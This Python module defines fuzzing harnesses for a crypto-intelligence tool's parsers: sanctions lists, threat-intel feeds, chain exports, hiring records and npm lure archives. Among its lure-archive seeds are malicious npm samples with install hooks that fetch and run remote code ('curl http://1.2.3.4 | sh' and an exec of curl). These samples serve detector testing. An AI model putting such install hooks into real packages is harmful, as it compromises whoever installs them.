"""Fuzzing harnesses: one per parser family, each holding the boundary's promise.

A harness takes raw bytes, hands them to one parser the way a user's file would reach it
(written to a file with the suffix the command expects, or as the text an API body carries)
and accepts exactly two outcomes: a result, or a :class:`~nkwatch.errors.UserError` whose
message is one line. Anything else escaping is a crash. The same harnesses run under atheris
(``bench/fuzz.py``, coverage-guided, long) and in ``tests/hardening/test_fuzz_atheris.py``
(a short seeded run in ``make check``).

The first byte of an input picks a variant where a family has several (file kind, suffix,
chain), so one corpus steers all of them. Seeds are small valid samples of each format.
"""

from __future__ import annotations

import io
import os
import shutil
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from nkwatch.errors import UserError

A = "0x098b716b8aaf21512996dc57eb0615e2383e2f96"
B = "0x" + "cd" * 20
H = "0x" + "ab" * 32
BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
T = "2025-02-21 14:16:11 UTC"


@dataclass(frozen=True)
class Family:
    name: str
    variants: tuple[str, ...]  # file names (or keys) the first byte picks from
    seeds: tuple[bytes, ...]  # whole inputs, first byte included
    run: Callable[[str, bytes, Path], Any]  # (variant, body, scratch folder) -> result
    writes: bool = False  # the run creates files of its own in the folder (swept per input)


def tmpfs() -> Path | None:
    return Path("/dev/shm") if os.path.isdir("/dev/shm") else None


class Scratch:
    """One private folder per process (under ``base``, else tmpfs when there is one).
    It is emptied between inputs of a family whose run writes files of its own; for the
    others the input file is written over in place (their parsers are handed that path,
    never the folder), which saves a listing, an unlink and a create per input. libFuzzer
    ends the process with exit(), past any ``finally``: a fuzzing worker passes a ``base``
    it owns and sweeps it at its next start."""

    def __init__(self, base: Path | None = None) -> None:
        where = base or tmpfs()
        self.root = Path(tempfile.mkdtemp(prefix="nkfuzz-", dir=str(where) if where else None))

    def fresh(self) -> Path:
        for child in self.root.iterdir():
            if child.name == KEEP:
                continue
            if child.is_dir() and not child.is_symlink():
                shutil.rmtree(child)
            else:
                child.unlink()
        return self.root

    def close(self) -> None:
        store = _STORES.pop(self.root, None)
        if store is not None:
            store.close()
        shutil.rmtree(self.root, ignore_errors=True)


def split(family: Family, data: bytes) -> tuple[str, bytes]:
    if not data:
        return family.variants[0], b""
    return family.variants[data[0] % len(family.variants)], data[1:]


def one_input(family: Family, data: bytes, scratch: Scratch) -> bool:
    """Run one input; True for a result, False for a UserError. Anything else propagates."""
    variant, body = split(family, data)
    folder = scratch.fresh() if family.writes else scratch.root
    try:
        family.run(variant, body, folder)
    except UserError as exc:
        line = str(exc)
        if "\n" in line and "\n" not in exc.message:
            raise AssertionError(f"a UserError split over lines: {line!r}") from exc
        return False
    return True


def seed(variant_index: int, text: str) -> bytes:
    return bytes([variant_index]) + text.encode("utf-8")


def _file(folder: Path, name: str, body: bytes) -> Path:
    path = folder / name
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    try:
        view = memoryview(body)
        while view:
            view = view[os.write(fd, view) :]
    finally:
        os.close(fd)
    return path


# ---- sanctions lists ---------------------------------------------------------------------

_OFAC_NS = "https://sanctionslistservice.ofac.treas.gov/api/PublicationPreview/exports/ADVANCED_XML"
_OFAC = f"""<?xml version="1.0" encoding="utf-8"?>
<Sanctions xmlns="{_OFAC_NS}">
<DateOfIssue><Year>2026</Year><Month>1</Month><Day>2</Day></DateOfIssue>
<ReferenceValueSets>
<AliasTypeValues><AliasType ID="1403">Name</AliasType></AliasTypeValues>
<CountryValues><Country ID="11" ISO2="KP">Korea, North</Country></CountryValues>
<FeatureTypeValues><FeatureType ID="8">Birthdate</FeatureType><FeatureType ID="345">Digital Currency Address - ETH</FeatureType></FeatureTypeValues>
<ListValues><List ID="1550">SDN List</List></ListValues>
<PartySubTypeValues><PartySubType ID="4" PartyTypeID="1">Unknown</PartySubType></PartySubTypeValues>
<PartyTypeValues><PartyType ID="1">Individual</PartyType></PartyTypeValues>
<SanctionsTypeValues><SanctionsType ID="1">Program</SanctionsType></SanctionsTypeValues>
</ReferenceValueSets>
<Locations><Location ID="1"><LocationCountry CountryID="11"/></Location></Locations>
<IDRegDocuments/>
<DistinctParties><DistinctParty FixedRef="1"><Profile ID="1" PartySubTypeID="4">
<Identity ID="100"><Alias AliasTypeID="1403" LowQuality="false"><DocumentedName>
<DocumentedNamePart><NamePartValue ScriptID="215">PAK Jin Hyok</NamePartValue></DocumentedNamePart>
</DocumentedName></Alias></Identity>
<Feature FeatureTypeID="8"><FeatureVersion ReliabilityID="1"><DatePeriod><Start><From><Year>1984</Year><Month>1</Month><Day>1</Day></From></Start><End><To><Year>1984</Year><Month>12</Month><Day>31</Day></To></End></DatePeriod></FeatureVersion></Feature>
<Feature FeatureTypeID="345"><FeatureVersion ReliabilityID="1"><VersionDetail DetailTypeID="1432">{A}</VersionDetail></FeatureVersion></Feature>
</Profile></DistinctParty></DistinctParties>
<ProfileRelationships/>
<SanctionsEntries><SanctionsEntry ProfileID="1" ListID="1550"><EntryEvent><Date><Year>2018</Year><Month>9</Month><Day>6</Day></Date></EntryEvent>
<SanctionsMeasure SanctionsTypeID="1"><Comment>DPRK3</Comment></SanctionsMeasure></SanctionsEntry></SanctionsEntries>
</Sanctions>
"""
_UN = """<?xml version="1.0" encoding="UTF-8"?>
<CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00.000Z"><INDIVIDUALS><INDIVIDUAL>
<DATAID>1</DATAID><VERSIONNUM>1</VERSIONNUM><FIRST_NAME>KIM</FIRST_NAME><SECOND_NAME>IL</SECOND_NAME>
<UN_LIST_TYPE>DPRK</UN_LIST_TYPE><REFERENCE_NUMBER>KPi.001</REFERENCE_NUMBER><LISTED_ON>2013-01-22</LISTED_ON>
<NATIONALITY><VALUE>Democratic People's Republic of Korea</VALUE></NATIONALITY>
<INDIVIDUAL_ALIAS><QUALITY>Good</QUALITY><ALIAS_NAME>Kim Il Sung</ALIAS_NAME></INDIVIDUAL_ALIAS>
<INDIVIDUAL_DATE_OF_BIRTH><TYPE_OF_DATE>EXACT</TYPE_OF_DATE><DATE>1960-05-02</DATE></INDIVIDUAL_DATE_OF_BIRTH>
<INDIVIDUAL_DOCUMENT><TYPE_OF_DOCUMENT>Passport</TYPE_OF_DOCUMENT><NUMBER>381420089</NUMBER></INDIVIDUAL_DOCUMENT>
</INDIVIDUAL></INDIVIDUALS><ENTITIES><ENTITY><DATAID>2</DATAID><FIRST_NAME>KOREA MINING</FIRST_NAME>
<UN_LIST_TYPE>DPRK</UN_LIST_TYPE><ENTITY_ALIAS><ALIAS_NAME>KOMID</ALIAS_NAME></ENTITY_ALIAS>
<ENTITY_ADDRESS><CITY>Pyongyang</CITY><COUNTRY>DPRK</COUNTRY></ENTITY_ADDRESS></ENTITY></ENTITIES>
</CONSOLIDATED_LIST>
"""


def _run_list(name: str, body: bytes, folder: Path) -> Any:
    from nkwatch.sanctions.parsers import parse_list

    return parse_list(_file(folder, name, body))


# ---- screening inputs --------------------------------------------------------------------


def _run_screening(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.boundary import decode_utf8, load_json, load_yaml
    from nkwatch.sanctions.batch import parse_csv_text, read_csv

    if variant == "batch.csv":
        return read_csv(_file(folder, variant, body))
    text = decode_utf8(body, where="body")
    if variant == "text.csv":
        return parse_csv_text(text, "upload.csv")
    if variant == "request.json":
        from nkwatch.sanctions import AddressRequest, NameRequest

        doc = load_json(text, where="body")
        if not isinstance(doc, dict):
            raise UserError("a request is a JSON object", where="body")
        req = NameRequest if "name" in doc else AddressRequest
        return _validated(req, doc)
    return load_yaml(text, where="body")


def _validated(model: Any, doc: dict[str, Any]) -> Any:
    """Pydantic validation the way the API does it: a ValidationError is the 422 answer."""
    from pydantic import ValidationError

    try:
        return model.model_validate(doc)
    except ValidationError as exc:
        raise UserError(f"invalid request: {exc.error_count()} error(s)", where="body") from None


# ---- intel ------------------------------------------------------------------------------

_STIX = (
    '{"type": "bundle", "id": "bundle--0a8e2a8e-9c3e-4b6b-8a4e-1f6e4c1e9b11", "objects": ['
    '{"type": "intrusion-set", "spec_version": "2.1", "id": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000001",'
    ' "created": "2025-01-01T00:00:00.000Z", "modified": "2025-01-01T00:00:00.000Z", "name": "Lazarus Group"},'
    '{"type": "incident", "spec_version": "2.1", "id": "incident--1a2b3c4d-0000-4000-8000-000000000002",'
    ' "created": "2025-02-21T00:00:00.000Z", "modified": "2025-02-21T00:00:00.000Z", "name": "Bybit",'
    ' "x_nkwatch_incident_id": "2025-02-21-bybit", "x_nkwatch_theft_date": "2025-02-21"},'
    '{"type": "indicator", "spec_version": "2.1", "id": "indicator--1a2b3c4d-0000-4000-8000-000000000003",'
    ' "created": "2025-02-21T00:00:00.000Z", "modified": "2025-02-21T00:00:00.000Z", "pattern_type": "stix",'
    f' "pattern": "[cryptocurrency-wallet:address = \'{A}\']", "valid_from": "2025-02-21T00:00:00Z"}}'
    "]}"
)
_MISP = (
    '{"response": [{"Event": {"uuid": "5f0c1a2b-0000-4000-8000-000000000001", "info": "Bybit hack",'
    ' "date": "2025-02-21", "Tag": [{"name": "misp-galaxy:threat-actor=\\"Lazarus Group\\""}],'
    f' "Attribute": [{{"type": "btc", "value": "{BTC}", "category": "Financial fraud"}}]}}}}]}}'
)
_INTEL_CSV = (
    "incident_id,theft_date,victim,victim_type,amount_usd,sources\n"
    "2025-02-21-bybit,2025-02-21,Bybit,centralized_exchange,1500000000,https://example.org/a\n"
)
_INTEL_YAML = (
    "incidents:\n  - incident_id: 2025-01-01-x\n    theft_date: 2025-01-01\n    victim: X\n"
    "    victim_type: bridge\n    sources: https://example.org/a\naddresses:\n  - incident_id: 2025-01-01-x\n"
    f"    chain: ethereum\n    address: '{A}'\n    source: https://example.org/a\n"
)


def _run_intel(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.intel.importers import read_file

    return read_file(_file(folder, variant, body), set())


# ---- trace importers (store path) and the lake ---------------------------------------------

_ES = (
    "hash,timestamp_utc,to,amount,asset,kind,contract,block,is_error\n"
    f"{H},2025-02-21 14:16:11,{A},1.5,ETH,native,,21895238,0\n"
)
_ETL_TX = (
    "hash,nonce,transaction_index,from_address,to_address,value,gas,gas_price,input,block_timestamp,block_number,block_hash,receipt_status\n"
    f"{H},1,0,{A},{B},5000000000000000000,21000,1,0x,1700000000,100,{H},1\n"
)
_ETL_TT = (
    "token_address,from_address,to_address,value,transaction_hash,log_index,block_number\n"
    f"{B},{A},{B},115792089237316195423570985008687907853269984665640564039457584007913129639935,{H},0,100\n"
)
_ETL_LOGS = (
    "log_index,transaction_hash,transaction_index,block_hash,block_number,address,data,topics\n"
    f'0,{H},0,{H},100,{B},0x{"00" * 32},"0x{"11" * 32},0x{"00" * 12}{A[2:]}"\n'
)
_ETL_BLOCKS = f"number,hash,timestamp,transaction_count\n100,{H},1700000000,1\n"
_ETL_TRACES = (
    "transaction_hash,transaction_index,from_address,to_address,value,input,output,trace_type,call_type,reward_type,gas,gas_used,subtraces,trace_address,error,status,block_number,trace_id\n"
    f"{H},0,{A},{B},7,0x,0x,call,call,,0,0,0,,,1,100,call_{H}_0\n"
)
_BTC_TX = (
    '{"hash": "' + "aa" * 32 + '", "block_number": 5, "block_timestamp": 1231006505, "index": 0,'
    ' "is_coinbase": false, "inputs": [{"index": 0, "spent_transaction_hash": "' + "bb" * 32 + '",'
    f' "spent_output_index": 0, "addresses": ["{BTC}"], "value": 100}}],'
    f' "outputs": [{{"index": 0, "addresses": ["{BTC}"], "value": 90, "script_hex": "6a0a3d3a4554482e455448"}}]}}\n'
)
_BTC_2009 = "tx_hash,block,time,input_addresses,output_addresses,values\n"
ETL_NAMES = ("transactions.csv", "token_transfers.csv", "logs.csv", "blocks.csv", "traces.csv")


# The importers parse and validate every input; the write stage (a DuckDB store, Parquet
# files and a lake commit: the same work for any valid rows, and 50-200x the parse) runs
# on one parsed input in WRITE_EVERY, picked by the CRC of its bytes (so a crash input
# replays the same way), through the command's own entry (``import_files``).
WRITE_EVERY = 64
KEEP = ".keep"  # under the scratch root, never swept: the store of the sampled writes


def _sampled(body: bytes) -> bool:
    return zlib.crc32(body) % WRITE_EVERY == 0


_STORES: dict[Path, Any] = {}


def _store(folder: Path) -> Any:
    """One store per scratch folder and process, opened once (it keeps what earlier
    sampled imports added, as a user's store does)."""
    if folder not in _STORES:
        from nkwatch.settings import Settings
        from nkwatch.store import open_store

        keep = folder / KEEP
        keep.mkdir(exist_ok=True)
        db = keep / "trace.duckdb"
        _STORES[folder] = open_store(Settings.from_env({"HOME": str(keep)}, db_path=db))
    return _STORES[folder]


def _run_trace(fmt: str) -> Callable[[str, bytes, Path], Any]:
    def run(variant: str, body: bytes, folder: Path) -> Any:
        from nkwatch.trace.importers import ImportOptions, get_importer, import_files

        path = _file(folder, variant, body)
        options = ImportOptions(from_address=A)
        items = list(get_importer(fmt).read([path], options))
        if items and _sampled(body):
            return import_files(_store(folder), fmt, [path], options)
        return items

    return run


def _run_lake(fmt: str) -> Callable[[str, bytes, Path], Any]:
    def run(variant: str, body: bytes, folder: Path) -> Any:
        from nkwatch.trace.lake.importer import LakeImportOptions, import_files, plan
        from nkwatch.trace.lake.store import Lake

        path = _file(folder, variant, body)
        source, stage = plan(Lake(folder / "lake"), fmt, [path], LakeImportOptions())
        rows = [b.rows.num_rows for p in stage for b in source(p)]
        if rows and _sampled(body):  # into an empty lake, dropped after: the next parses
            lake = folder / KEEP / "lake"  # see the same empty lake as before
            try:
                return import_files(Lake(lake), fmt, [path], LakeImportOptions())
            finally:
                shutil.rmtree(lake, ignore_errors=True)
        return rows

    return run


# ---- exposure, labels, rules ---------------------------------------------------------------

_RULES = (
    "rules:\n  - id: r1\n    decision: block\n    min_share: 0.1\n    categories: [sanctioned]\n"
    "  - id: r2\n    decision: review\n    max_hops: 3\n"
)
_WATCH = f"incidents:\n  - id: x\n    seeds: ['{A}']\n"


def _run_exposure(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.exposure.batch import read_deposits
    from nkwatch.exposure.sources import from_user_csv
    from nkwatch.exposure.watch_config import load_config

    path = _file(folder, variant, body)
    if variant == "risk.csv":
        return from_user_csv(path)
    if variant == "deposits.csv":
        return read_deposits(path, "ethereum")
    return load_config(path)


def _run_rules(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.exposure.rules import load_rules

    return load_rules(_file(folder, variant, body))


def _run_labels(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.trace.label_sources import etherscan_labels, graphsense_tagpack, user_csv

    path = _file(folder, variant, body)
    if variant == "tagpack.yaml":
        return list(graphsense_tagpack(path))
    if variant == "etherscan.json":
        return list(etherscan_labels(path))
    return list(user_csv(path))


# ---- hiring ------------------------------------------------------------------------------

_APPLICANTS_CSV = (
    "id,full_name,email,phone,country,applied_at\n"
    "a1,Kim Song,kim@example.org,+1 415 555 0100,US,2025-03-01\n"
)
_APPLICANTS_JSON = (
    '{"applicants": [{"applicant_id": "a1", "full_name": "Kim Song", "email": "kim@example.org",'
    ' "country": "US", "wallets": ["' + A + '"]}]}'
)
_LOGINS = "person_id,time,ip,user_agent\na1,2025-03-01T10:00:00Z,203.0.113.5,Mozilla/5.0\n"


def _run_hiring(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.hiring.importers import read_applicants, read_events

    path = _file(folder, variant, body)
    if variant.startswith("logins"):
        return read_events(path, "login")
    if variant.startswith("hosts"):
        return read_events(path, "host")
    return read_applicants(path)


# ---- address codecs, amounts, memos --------------------------------------------------------

CHAINS = ("ethereum", "bitcoin", "tron", "monero", "litecoin", "solana", "bsc", "zcash")


def _run_codecs(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.boundary import decode_utf8, exact_units, parse_int
    from nkwatch.chains import find_chain, parse_address

    text = decode_utf8(body, where="value")
    if variant == "amount":
        digits, _, decimals = text.partition("|")
        return exact_units(digits, min(len(decimals), 80), where="amount")
    if variant == "integer":
        return parse_int(text, where="n", what="block")
    if find_chain(variant) is None:
        raise UserError("unknown chain", where=variant)
    return parse_address(variant, text, where="address")


def _run_memo(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.boundary import decode_utf8
    from nkwatch.trace.bridges import btc_memo, thorchain
    from nkwatch.trace.bridges.midgard import read_actions

    if variant == "midgard.json":
        return read_actions(_file(folder, variant, body))
    text = decode_utf8(body, where="memo")
    try:
        if variant == "memo":
            return thorchain.parse_memo(text)
        if variant == "asset":
            return thorchain.parse_asset(text)
        if variant == "script":
            return btc_memo.output_memo(text, None), btc_memo.output_memo(None, text)
    except thorchain.MemoError:
        return None  # the decoder's declared refusal (callers turn it into a bad-log row)
    return None


_MIDGARD = (
    '{"actions": [{"type": "swap", "status": "success", "date": "1700000000000000000",'
    ' "in": [{"address": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "txID": "' + "AB" * 32 + '",'
    ' "coins": [{"asset": "BTC.BTC", "amount": "1000"}]}],'
    f' "out": [{{"address": "{A}", "txID": "'
    + "CD"
    * 32
    + '", "coins": [{"asset": "ETH.ETH", "amount": "5"}]}],'
    f' "metadata": {{"swap": {{"memo": "=:ETH.ETH:{A}:0/1/0"}}}}}}]}}'
)


# ---- lure archives -----------------------------------------------------------------------


def _zip_seed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "package/package.json", '{"name": "x", "scripts": {"postinstall": "node a.js"}}'
        )
        zf.writestr("package/a.js", "require('child_process').exec('curl http://1.2.3.4/x')")
    return out.getvalue()


def _tar_seed() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tf:
        data = b'{"name": "y", "version": "1.0.0"}'
        info = tarfile.TarInfo("package/package.json")
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _run_lure(variant: str, body: bytes, folder: Path) -> Any:
    from nkwatch.lure.extract import Limits, unpack

    if variant == "package.json":
        from nkwatch.lure import npm
        from nkwatch.lure.indicators import load

        return npm.check(body, load())
    spill = folder / "spill"
    spill.mkdir()
    small = Limits(max_files=200, max_total=4 << 20, max_member=1 << 20, max_depth=8)
    return unpack(_file(folder, variant, body), small, lambda rel, size: 4096, spill)


# ---- the families ------------------------------------------------------------------------


def _seeds(variants: Sequence[str], samples: dict[str, str | bytes]) -> tuple[bytes, ...]:
    out = []
    for key, sample in samples.items():
        raw = sample if isinstance(sample, bytes) else sample.encode("utf-8")
        out.append(bytes([variants.index(key)]) + raw)
    return tuple(out)


def _family(
    name: str,
    run: Callable[[str, bytes, Path], Any],
    samples: dict[str, str | bytes],
    writes: bool = False,
) -> Family:
    variants = tuple(samples)
    return Family(name, variants, _seeds(variants, samples), run, writes)


FAMILIES: dict[str, Family] = {
    f.name: f
    for f in (
        _family("ofac-xml", _run_list, {"sdn_advanced.xml": _OFAC}),
        _family("un-xml", _run_list, {"consolidated.xml": _UN}),
        _family(
            "screening",
            _run_screening,
            {
                "batch.csv": "name,address,country\nKim Jong Un,,KP\nAcme,0x098b716b8aaf21512996dc57eb0615e2383e2f96,\n",
                "text.csv": "name\nPak Jin Hyok\n",
                "request.json": '{"name": "Kim Jong Un", "threshold": 0.8}',
                "request.yaml": "name: Kim Jong Un\naliases: [a, b]\n",
            },
        ),  # fmt: skip
        _family(
            "intel",
            _run_intel,
            {
                "bundle.json": _STIX,
                "misp.json": _MISP,
                "incidents.csv": _INTEL_CSV,
                "incidents.yaml": _INTEL_YAML,
            },
        ),  # fmt: skip
        _family("trace-etherscan", _run_trace("etherscan-csv"), {"export.csv": _ES}),
        _family(
            "trace-ethereum-etl",
            _run_trace("ethereum-etl"),
            {
                "transactions.csv": _ETL_TX,
                "token_transfers.csv": _ETL_TT,
                "logs.csv": _ETL_LOGS,
                "blocks.csv": _ETL_BLOCKS,
                "traces.csv": _ETL_TRACES,
            },
        ),  # fmt: skip
        _family(
            "trace-bitcoin-etl",
            _run_trace("bitcoin-etl"),
            {
                "transactions.jsonl": _BTC_TX,
                "outputs.jsonl": _BTC_TX.replace('"is_coinbase": false', '"is_coinbase": true'),
            },
        ),  # fmt: skip
        _family(
            "lake",
            _run_lake("ethereum-etl"),
            dict(
                zip(ETL_NAMES, (_ETL_TX, _ETL_TT, _ETL_LOGS, _ETL_BLOCKS, _ETL_TRACES), strict=True)
            ),
        ),  # fmt: skip
        _family("lake-bitcoin", _run_lake("bitcoin-etl"), {"transactions.jsonl": _BTC_TX}),
        _family(
            "exposure",
            _run_exposure,
            {
                "risk.csv": f"address,label,chain\n{A},lazarus,ethereum\n",
                "deposits.csv": f"chain,address,customer\nethereum,{A},c1\nbitcoin,{BTC},c2\n",
                "watch.yaml": _WATCH,
            },
        ),  # fmt: skip
        _family("rules", _run_rules, {"rules.yaml": _RULES, "rules.yml": "rules: []\n"}),
        _family(
            "labels",
            _run_labels,
            {
                "tagpack.yaml": f"title: t\ncreator: x\ncurrency: ETH\nlastmod: 2023-01-01\ntags:\n  - address: '{A}'\n    label: Lazarus\n    category: perpetrator\n",
                "etherscan.json": '{"' + A + '": {"name": "Binance 14", "labels": ["exchange"]}}',
                "labels.csv": f"chain,address,service,category\nethereum,{A},X,exchange\n",
            },
        ),  # fmt: skip
        _family(
            "hiring",
            _run_hiring,
            {
                "applicants.csv": _APPLICANTS_CSV,
                "applicants.json": _APPLICANTS_JSON,
                "applicants.jsonl": _APPLICANTS_JSON[15:-2] + "\n",
                "logins.csv": _LOGINS,
                "hosts.jsonl": '{"person_id": "a1", "hostname": "kim-pc", "time": "2025-03-01T10:00:00Z"}\n',
            },
        ),  # fmt: skip
        _family(
            "codecs",
            _run_codecs,
            {
                "ethereum": "0x098B716B8Aaf21512996dC57EB0615e2383E2f96",
                "bitcoin": BTC,
                "tron": "TN3W4H6rK2ce4vX9YnFQHwKENnHjoxb3m9",
                "monero": "4" + "A" * 94,
                "litecoin": "ltc1qg42tkwuuxefutzxezdkdel39gfstuap288mfea",
                "solana": "11111111111111111111111111111111",
                "amount": "12.5|" + "x" * 18,
                "integer": "21895238",
            },
        ),  # fmt: skip
        _family(
            "memo",
            _run_memo,
            {
                "memo": f"=:ETH.USDT-0XDAC17F958D2EE523A2206206994597C13D831EC7:{A}:1/1/0:t:15",
                "asset": "BTC.BTC",
                "script": "6a0a3d3a4554482e455448",
                "midgard.json": _MIDGARD,
            },
        ),  # fmt: skip
        _family(
            "lure-archive",
            _run_lure,
            {
                "pkg.zip": _zip_seed(),
                "pkg.tgz": _tar_seed(),
                "package.json": '{"name": "web3-utils-x", "scripts": {"preinstall": "curl http://1.2.3.4 | sh"}, "dependencies": {"axios": "^1"}}',
            },
            writes=True,  # the archive's spill folder
        ),  # fmt: skip
    )
}


def _all() -> Family:
    """Every family behind one first byte (the short seeded run in ``make check``)."""
    variants = tuple(f"{f.name}/{v}" for f in FAMILIES.values() for v in f.variants)
    seeds = tuple(
        bytes([variants.index(f"{f.name}/{f.variants[s[0]]}")]) + s[1:]
        for f in FAMILIES.values()
        for s in f.seeds
    )

    def run(variant: str, body: bytes, folder: Path) -> Any:
        family, _, inner = variant.partition("/")
        return FAMILIES[family].run(inner, body, folder)

    return Family("all", variants, seeds, run, any(f.writes for f in FAMILIES.values()))


FAMILIES["all"] = _all()
